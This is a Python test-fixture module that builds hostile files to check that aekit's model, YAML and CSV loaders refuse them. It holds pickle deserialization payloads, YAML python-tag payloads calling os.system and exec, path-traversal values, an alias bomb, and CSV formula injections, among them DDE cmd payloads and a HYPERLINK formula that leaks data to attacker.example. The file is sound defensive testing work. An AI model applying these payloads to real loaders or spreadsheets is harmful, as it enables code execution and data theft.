"""Hostile files for tests/test_hostile_files.py and `benchmarks/reliability.py --files`:
saved-model folders, YAML run configs and CSV tables built to attack aekit's loaders (pickle
payloads, paths out of the folder, unknown or wrongly typed fields, Python tags, alias bombs,
spreadsheet formulas, broken encodings). Each must be refused with a ValueError saying why,
with nothing executed.

`HOSTILE_FILES` lists the cases; `case.check(folder)` writes one under `folder`, loads it the
way aekit does, and returns (outcome, message).

Test harness, not part of the installed package: the payloads are live (unpickling one creates
a file), so they live beside the tests that fire them.
"""

from __future__ import annotations

import hashlib
import io
import json
import pickle
import re
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np

__all__ = ["HOSTILE_FILES", "HostileFile", "MARKER"]

MARKER = "pwned"  # the file a payload creates in the case's folder if it ever runs


class _Payload:
    """Unpickling this creates the marker file."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (Path.touch, (self.marker,))


@dataclass(frozen=True)
class HostileFile:
    """One hostile file: `write(folder)` creates it and returns the call that loads it as
    aekit would; `refusal` is a pattern the refusal's message must match."""

    kind: str
    name: str
    write: Callable[[Path], Callable[[], object]]
    refusal: str

    def check(self, folder: Path) -> tuple[str, str]:
        """('refused', message) when loading raised a ValueError matching `refusal` and no
        payload ran; otherwise 'executed', 'accepted', 'unclear refusal' or 'raw error'."""
        folder.mkdir(parents=True, exist_ok=True)
        load = self.write(folder)
        try:
            load()
        except Exception as err:  # noqa: BLE001 - sorting every escape is the point
            message = f"{type(err).__name__}: {err}"
            if (folder / MARKER).exists():
                return "executed", message
            if not isinstance(err, ValueError) or isinstance(err, UnicodeError):
                return "raw error", message
            return ("refused" if re.search(self.refusal, str(err)) else "unclear refusal"), message
        return ("executed" if (folder / MARKER).exists() else "accepted"), "loaded without complaint"


# ---- saved-model folders ------------------------------------------------------------------


def _saved_model(folder: Path) -> Path:
    from aekit import AutoEncoder

    X = np.random.default_rng(0).random((40, 6))
    return AutoEncoder(latent_dim=2, hidden_dims=(4,), max_epochs=1, random_state=0).fit(X).save(folder / "good")


def _model_case(name: str, edit: Callable[[Path, dict], None], refusal: str) -> HostileFile:
    """A copy of a freshly saved model whose folder and parsed config.json `edit` changes."""

    def write(folder: Path) -> Callable[[], object]:
        from aekit import AutoEncoder

        path = folder / "model"
        shutil.copytree(_saved_model(folder), path)
        config = json.loads((path / "config.json").read_text())
        edit(path, config)
        if config:
            (path / "config.json").write_text(json.dumps(config))
        return lambda: AutoEncoder.load(path)

    return HostileFile("model folder", name, write, refusal)


def _weights(data: Callable[[Path], bytes], *, update_checksum: bool) -> Callable[[Path, dict], None]:
    def edit(path: Path, config: dict) -> None:
        payload = data(path)
        (path / "model.safetensors").write_bytes(payload)
        if update_checksum:
            config["weights"]["sha256"] = hashlib.sha256(payload).hexdigest()

    return edit


def _pickled(path: Path) -> bytes:
    return pickle.dumps({"encoder.0.weight": _Payload(path.parent / MARKER)})


def _torch_saved(path: Path) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save({"encoder.0.weight": _Payload(path.parent / MARKER)}, buffer)
    return buffer.getvalue()


def _truncated(path: Path) -> bytes:
    data = (path / "model.safetensors").read_bytes()
    return data[: len(data) // 2]


def _flipped(path: Path) -> bytes:
    data = bytearray((path / "model.safetensors").read_bytes())
    data[len(data) - 7] ^= 0x10
    return bytes(data)


def _integer_weights(path: Path) -> bytes:
    from safetensors.torch import load, save

    return save({name: (1000 * t).int() for name, t in load((path / "model.safetensors").read_bytes()).items()})


def _set(*keys_and_value) -> Callable[[Path, dict], None]:
    *keys, value = keys_and_value

    def edit(path: Path, config: dict) -> None:
        node = config
        for key in keys[:-1]:
            node = node[key]
        node[keys[-1]] = value

    return edit


def _raw_config(text: bytes) -> Callable[[Path, dict], None]:
    def edit(path: Path, config: dict) -> None:
        config.clear()
        (path / "config.json").write_bytes(text)

    return edit


def _escape(path: Path, config: dict) -> None:
    config["weights"]["file"] = "../good/model.safetensors"


NOT_SAFETENSORS = "not a valid safetensors"
MODEL_FOLDERS = [
    _model_case("weights are a pickle payload", _weights(_pickled, update_checksum=True), NOT_SAFETENSORS),
    _model_case("weights are a torch.save payload", _weights(_torch_saved, update_checksum=True), NOT_SAFETENSORS),
    _model_case("pickle payload, old checksum", _weights(_pickled, update_checksum=False), "checksum"),
    _model_case("truncated weights", _weights(_truncated, update_checksum=False), "checksum"),
    _model_case("bit-flipped weights", _weights(_flipped, update_checksum=False), "checksum"),
    _model_case("integer weights, new checksum", _weights(_integer_weights, update_checksum=True),
                r"model.safetensors': tensor 'encoder.linears.0.weight' is int32, but the model needs floating-point values"),
    _model_case("weights file '../' outside the folder", _escape, "'weights' must name"),
    _model_case("weights file an absolute path", _set("weights", "file", "/etc/passwd"), "'weights' must name"),
    _model_case("extra path in 'weights'", _set("weights", "path", "../good/model.safetensors"), "'weights' must name"),
    _model_case("checksum not a string", _set("weights", "sha256", ["0" * 64]), "sha256"),
    _model_case("sub-folder '../' outside the folder", _set("folders", ["../good"]), "'folders' must list distinct sub-folders"),
    _model_case("unknown top-level field", _set("on_load", "__import__('os').system('touch pwned')"), "unknown fields"),
    _model_case("unknown parameter", _set("params", "evil", 1), "unknown parameters"),
    _model_case("unknown fitted field", _set("fitted", "__reduce__", "os.system"), "unknown fields"),
    _model_case("class named by import path", _set("class", "os.system"), "unknown class"),
    _model_case("class not a string", _set("class", ["AutoEncoder"]), "unknown class"),
    _model_case("parameter of the wrong type", _set("params", "latent_dim", "2"), "latent_dim"),
    _model_case("layer sizes of the wrong type", _set("params", "hidden_dims", "4"), "hidden_dims"),
    _model_case("feature count of the wrong type", _set("fitted", "n_features_in_", "6"), "n_features_in_"),
    _model_case("history of the wrong type", _set("fitted", "history_", "rm -rf ~"), "history_"),
    _model_case("feature names of the wrong type", _set("fitted", "feature_names_in_", 6), "feature_names_in_"),
    _model_case("format version from the future", _set("format_version", 99), "format_version"),
    _model_case("config.json nested 100000 deep", _raw_config(b"[" * 100_000), "not valid JSON"),
    _model_case("config.json is a pickle payload", _raw_config(pickle.dumps(_Payload(Path(MARKER)))), "not valid JSON"),
]

# ---- YAML run configs ---------------------------------------------------------------------


def _yaml_case(name: str, text: str | bytes, refusal: str) -> HostileFile:
    """A config file; `{marker}` in `text` becomes the marker's path."""

    def write(folder: Path) -> Callable[[], object]:
        from aekit.app.config import read_config, validate_config

        path = folder / "config.yaml"
        if isinstance(text, str):
            path.write_text(text.replace("{marker}", str(folder / MARKER)))
        else:
            path.write_bytes(text)
        return lambda: validate_config(read_config(path))

    return HostileFile("YAML config", name, write, refusal)


_BOMB = "model:\n  name: autoencoder\n  regularizers:\n    a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"    {b}: &{b} [{', '.join([f'*{a}'] * 10)}]\n" for a, b in zip("abcdefgh", "bcdefghi")
)
SAFE_LOADING = "safe loading only"

YAML_CONFIGS = [
    _yaml_case(
        "!!python/object/apply:builtins.exec",
        """model: !!python/object/apply:builtins.exec ["open('{marker}', 'w').close()"]\n""",
        SAFE_LOADING,
    ),
    _yaml_case(
        "!!python/object/apply:os.system", 'seed: !!python/object/apply:os.system ["touch {marker}"]\n', SAFE_LOADING
    ),
    _yaml_case(
        "!!python/object/apply:subprocess.check_call",
        'data:\n  source: !!python/object/apply:subprocess.check_call [["touch", "{marker}"]]\n',
        SAFE_LOADING,
    ),
    _yaml_case("!!python/object/new:pathlib.Path", "out: !!python/object/new:pathlib.Path [x]\n", SAFE_LOADING),
    _yaml_case("!!python/name:os.system", "out: !!python/name:os.system\n", SAFE_LOADING),
    _yaml_case("!!python/module:os", "out: !!python/module:os\n", SAFE_LOADING),
    _yaml_case("alias bomb (10^9 values)", _BOMB, "expands to more than"),
    _yaml_case("nested 5000 deep", "model: " + "[" * 5000 + "]" * 5000 + "\n", "nested too deeply"),
    _yaml_case("unknown key", "model:\n  latnt_dim: 2\n", "unknown key"),
    _yaml_case("wrong type", "model:\n  latent_dim: two\n", "latent_dim"),
    _yaml_case("not UTF-8", b"seed: 1\nout: runs/\xff\xfe\n", "not UTF-8"),
]

# ---- CSV tables -----------------------------------------------------------------------------


def _csv_case(name: str, cell: str | None = None, raw: bytes | None = None) -> HostileFile:
    """A table whose numeric column `amount` gets `cell` in its third row, or the bytes `raw`."""
    refusal = r"column 'amount' holds 1 spreadsheet formula" if raw is None else "is not (valid )?(utf-8|UTF-8) text"

    def write(folder: Path) -> Callable[[], object]:
        from aekit.data.datasets import load_csv

        path = folder / "table.csv"
        if raw is not None:
            path.write_bytes(raw)
        else:
            quoted = '"' + str(cell).replace('"', '""') + '"'
            path.write_text(f"amount,city\n1.5,Oslo\n2.25,Lund\n{quoted},Oslo\n4,Bergen\n")
        return lambda: load_csv(path)

    return HostileFile("CSV table", name, write, refusal)


CSV_TABLES = [
    _csv_case("DDE =cmd|", cell="=cmd|' /C calc'!A0"),
    _csv_case("=HYPERLINK", cell='=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'),
    _csv_case("=1+1", cell="=1+1"),
    _csv_case("+SUM(", cell="+SUM(1,2)"),
    _csv_case("-2+3+cmd|", cell="-2+3+cmd|' /C calc'!A0"),
    _csv_case("@SUM(", cell="@SUM(1+1)*cmd|' /C calc'!A0"),
    _csv_case("tab then =", cell="\t=1+1"),
    _csv_case("Latin-1 bytes", raw="amount,city\n1.5,Malmö\n2,Lund\n".encode("latin-1")),
    _csv_case("UTF-16 without byte-order mark", raw="amount,city\n1.5,Oslo\n2,Lund\n".encode("utf-16-le")),
    _csv_case("invalid UTF-8 continuation", raw=b"amount,city\n1.5,Os\xc3\x28lo\n2,Lund\n"),
]

HOSTILE_FILES: list[HostileFile] = [*MODEL_FOLDERS, *YAML_CONFIGS, *CSV_TABLES]
